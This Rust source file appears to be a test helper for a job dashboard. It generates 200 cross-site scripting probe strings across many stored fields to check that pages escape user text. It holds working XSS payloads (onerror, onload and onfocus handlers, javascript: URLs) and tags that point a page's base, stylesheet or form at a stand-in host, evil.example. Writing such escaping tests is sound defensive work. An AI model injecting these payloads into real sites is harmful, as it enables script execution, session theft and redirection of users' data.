//! 200 texts that become scripts, elements or attributes where a page forgets to escape.

/// What ends where the text may stand: an attribute, a comment, an element that has no elements, a script, a style, a template.
const OPENINGS: [&str; 10] = [
    "",
    "\">",
    "'>",
    "-->",
    "</title></pre></textarea></select>",
    "</script>",
    "</style>",
    "]]>",
    "{{7*7}}{% raw %}${7*7}",
    // Turns around what follows.
    "\u{202e}\u{feff}",
];

/// What follows. Each element and attribute is marked, so that it is found if it becomes one.
const PAYLOADS: [&str; 20] = [
    "<script attack>alert(SIGN)</script>",
    "<img attack src=x onerror=alert(SIGN)>",
    "<svg attack onload=alert(SIGN)>",
    "<svg attack><animate attack onbegin=alert(SIGN) attributeName=x dur=1s>",
    "<iframe attack srcdoc=\"<script>parent.alert(SIGN)</script>\">",
    "<iframe attack src=javascript:parent.alert(SIGN)>",
    "<a attack href=javascript:alert(SIGN) autofocus onfocus=alert(SIGN)>Cancel</a>",
    "<input attack autofocus onfocus=alert(SIGN)>",
    "<details attack open ontoggle=alert(SIGN)>",
    "<meta attack http-equiv=refresh content=\"0;url=javascript:alert(SIGN)\">",
    "<base attack href=//evil.example/SIGN/>",
    "<link attack rel=stylesheet href=//evil.example/SIGN>",
    "<style attack>@import \"//evil.example/SIGN\";*{display:none}</style>",
    "<form attack action=//evil.example/SIGN><button attack>Delete</button></form>",
    "<object attack data=javascript:alert(SIGN)></object>",
    "<math attack><mtext attack><style><img attack src=x onerror=alert(SIGN)></style></mtext></math>",
    "\" attack autofocus onfocus=alert(SIGN) onmouseover=alert(SIGN) x=\"",
    "' attack autofocus onfocus=alert(SIGN) onmouseover=alert(SIGN) x='",
    "&lt;img attack src=x onerror=alert(SIGN)&gt;",
    "%3Cimg%20attack%20src=x%20onerror=alert(SIGN)%3E\\u003cimg attack src=x onerror=alert(SIGN)\\u003e",
];

/// How many there are.
pub(crate) const COUNT: usize = OPENINGS.len() * PAYLOADS.len();

/// Where a text is stored.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Field {
    Name,
    Queue,
    User,
    Session,
    Event,
    ParameterName,
    ParameterValue,
    ResultName,
    ResultValue,
    Message,
    LastError,
    AttemptWorker,
    AttemptError,
    Worker,
    Host,
    ServedQueue,
    ServedName,
    PausedBy,
    PauseReason,
    Schedule,
    ScheduledJob,
    Principal,
    Origin,
    Subject,
    Changed,
    /// A parameter of a job whose definition is known.
    FormValue,
    /// Of who looks at the pages.
    Visitor,
}

/// The text of this number that is stored there. What it would execute says which it is.
pub(crate) fn text(number: usize, field: Field) -> String {
    let (opening, payload) = (OPENINGS[number / PAYLOADS.len()], PAYLOADS[number % PAYLOADS.len()]);
    // A number of JavaScript, of which no other is the beginning.
    let sign = format!("{number}.{:02}1", field as usize);
    format!("{opening}{}", payload.replace("SIGN", &sign))
}

/// The same as it stands in JSON.
pub(crate) fn json(number: usize, field: Field) -> String {
    serde_json::Value::from(text(number, field)).to_string()
}
